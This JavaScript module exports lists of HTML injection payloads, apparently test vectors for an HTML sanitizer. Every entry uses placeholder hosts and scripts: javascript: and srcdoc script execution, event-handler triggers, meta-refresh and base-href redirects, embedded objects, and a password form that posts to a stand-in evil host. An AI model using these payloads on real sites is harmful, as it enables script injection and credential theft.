// What brings another document, or takes this one away.
import { EVIL, PAGE, RUN } from './parts.mjs';

export const DOCUMENTS = [
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=${EVIL}></iframe><frameset><frame src=${EVIL}></frameset>`,
  `<object data=${EVIL}></object><embed src=${EVIL}><applet code=${EVIL}></applet>`,
  `<object data="data:text/html;base64,${PAGE}"></object>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<base href=${EVIL}><a href=y>x</a>`,
  `<form action=${EVIL}><input name=a value=b><button>x</button></form>`,
  `<form id=f action="javascript:${RUN}"></form><button form=f>x</button>`,
  `<button formaction="javascript:${RUN}">x</button><input type=image src=${EVIL}.png formaction=${EVIL}>`,
  `<input type=submit onclick=${RUN}><input type=image src=${EVIL}.png onerror=${RUN}>`,
  `<link rel=stylesheet href=${EVIL}.css><link rel=prefetch href=${EVIL}><link rel=import href=${EVIL}>`,
  `<portal src=${EVIL}></portal><dialog open>x<form method=dialog></form></dialog>`,
  `<a href=x target=_blank ping=${EVIL}>x</a><a href=${EVIL} download>x</a>`,
  `<a href=x><table><td><a id=y>x</a></td></table></a>`,
  `<isindex action=${EVIL} type=image>`,
  `<iframe src=//evil.example/x allow=camera credentialless></iframe>`,
  `<iframe srcdoc='&lt;img src=x onerror=parent.${RUN}&gt;' sandbox=allow-scripts></iframe>`,
  `<fencedframe></fencedframe><controlledframe src=${EVIL}></controlledframe><webview src=${EVIL}></webview>`,
  `<object type=text/x-scriptlet data=${EVIL}></object>`,
  `<object><param name=src value="javascript:${RUN}"><param name=movie value=${EVIL}></object>`,
  `<embed code=${EVIL} allowscriptaccess=always>`,
];

export const META_AND_BASE = [
  `<META HTTP-EQUIV=refresh CONTENT="0;URL=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html;base64,${PAGE}">`,
  `<meta http-equiv="&#114;efresh" content="0 ; ${EVIL}">`,
  `<meta http-equiv=set-cookie content=a=b><meta name=referrer content=unsafe-url>`,
  `<meta name=viewport content="width=9999"><meta name=color-scheme content=dark>`,
  `<head><base href="javascript:${RUN}//"></head><a href=/x>x</a>`,
  `<base target=_top href=//evil.example/><a href=x>x</a>`,
  `<title>x</title><body><base href=${EVIL}><img src=y.png>`,
];

export const FORMS = [
  `<form action=${EVIL} target=_blank><input type=submit id=go><label for=go>x</label></form>`,
  `<input form=f formaction=${EVIL} type=submit><form id=f></form>`,
  `<form><input type=password name=p autofocus><button type=submit formmethod=post formaction=${EVIL}>x</button></form>`,
  `<isindex type=submit formaction="javascript:${RUN}">`,
  `<keygen autofocus onfocus=${RUN}><input type=text value=x>`,
  `<input type="checkbox\u0000" onclick=${RUN}><input type=CHECKBOX formaction=${EVIL}><input type=file>`,
  `<fieldset disabled form=f><legend onclick=${RUN}>x</legend></fieldset><output onclick=${RUN}>x</output>`,
  `<select autofocus onfocus=${RUN}><button><selectedcontent></button><option>x</select>`,
];
